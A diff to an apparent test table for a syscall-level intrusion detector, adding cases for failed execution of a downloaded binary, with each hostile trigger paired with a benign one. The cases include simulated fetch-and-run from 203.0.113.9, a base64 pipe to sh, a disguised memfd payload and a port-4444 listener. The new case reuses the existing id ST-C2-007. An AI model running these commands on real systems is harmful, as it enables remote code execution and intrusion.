@@ -54,6 +54,9 @@ export const CASES: RuleCase[] = [
     benign: (s) => s.run('/usr/bin/python3', ['python3', '-c', 'print(sum(range(10)))']) },
   { id: 'ST-EXE-003', trigger: (s) => sh(s, 'echo ZWNobyBoaQ== | base64 -d | sh'), benign: (s) => sh(s, 'base64 -d data.b64 > data.bin') },
   { id: 'ST-EXE-004', trigger: (s) => s.run('/tmp/.x/miner', ['./miner']), benign: (s) => s.run('/usr/bin/ls', ['ls', '/tmp']) },
+  // a downloaded file the kernel cannot load (empty, another architecture): ENOEXEC; one from the image that fails is not a drop
+  { id: 'ST-EXE-015', trigger: (s) => { s.open(1, '/tmp/.x86', O.w); s.sys(1, 'execve', [0, 0, 0], -8, { path: '/tmp/.x86', argv: ['./.x86'] }); },
+    benign: (s) => s.sys(1, 'execve', [0, 0, 0], -8, { path: '/usr/bin/qemu-arm', argv: ['qemu-arm'] }) },
   { id: 'ST-EXE-005', trigger: (s) => { s.open(1, '/root/payload', O.w); s.run('/root/payload', ['./payload']); },
     benign: (s) => { s.open(1, '/root/notes.txt', O.w); s.run('/usr/bin/cat', ['cat', '/root/notes.txt']); } },
   { id: 'ST-EXE-006', trigger: (s) => { const p = s.fork(1); s.exec(p, '/memfd:payload (deleted)', ['[kworker]']); },
@@ -188,6 +191,9 @@ export const CASES: RuleCase[] = [
     benign: (s) => { s.run('/usr/bin/wget', ['wget', '--version']); s.run('/usr/bin/ls', ['ls']); } },
   { id: 'ST-C2-007', trigger: (s) => { const py = s.run('/usr/bin/python3', ['python3', 'get.py']); s.connect(py, '203.0.113.9', 80, 0); s.open(py, '/tmp/upd', O.w); s.run('/tmp/upd', ['/tmp/upd'], { ppid: py }); },
     benign: (s) => { const py = s.run('/usr/bin/python3', ['python3', 'get.py']); s.connect(py, '127.0.0.1', 8000, 0); s.open(py, '/tmp/upd', O.w); s.run('/tmp/upd', ['/tmp/upd'], { ppid: py }); } },
+  // the download's run refused by the kernel (an empty body, another architecture) is the chain too
+  { id: 'ST-C2-007', trigger: (s) => { const w = s.run('/usr/bin/wget', ['wget', '-O', '/tmp/.x86', 'http://203.0.113.9/x86']); s.open(w, '/tmp/.x86', O.w); s.sys(1, 'execve', [0, 0, 0], -8, { path: '/tmp/.x86', argv: ['./.x86'] }); },
+    benign: (s) => { s.open(1, '/tmp/.x86', O.w); s.sys(1, 'execve', [0, 0, 0], -8, { path: '/tmp/.x86', argv: ['./.x86'] }); } },
   { id: 'ST-C2-008', trigger: (s) => { const fd = s.socket(1); s.sys(1, 'bind', [fd, 0, 16], 0, { addr: { family: 'inet', address: '0.0.0.0', port: 4444 } }); s.sys(1, 'listen', [fd, 1], 0); },
     benign: (s) => { const fd = s.socket(1, 1, 1); s.sys(1, 'listen', [fd, 1], 0); } },
   { id: 'ST-C2-009', trigger: (s) => { const fd = s.socket(1, 2, 2); s.sys(1, 'sendto', [fd, 0, 5, 0, 0, 16], 5, { addr: { family: 'inet', address: '203.0.113.9', port: 53 } }); },
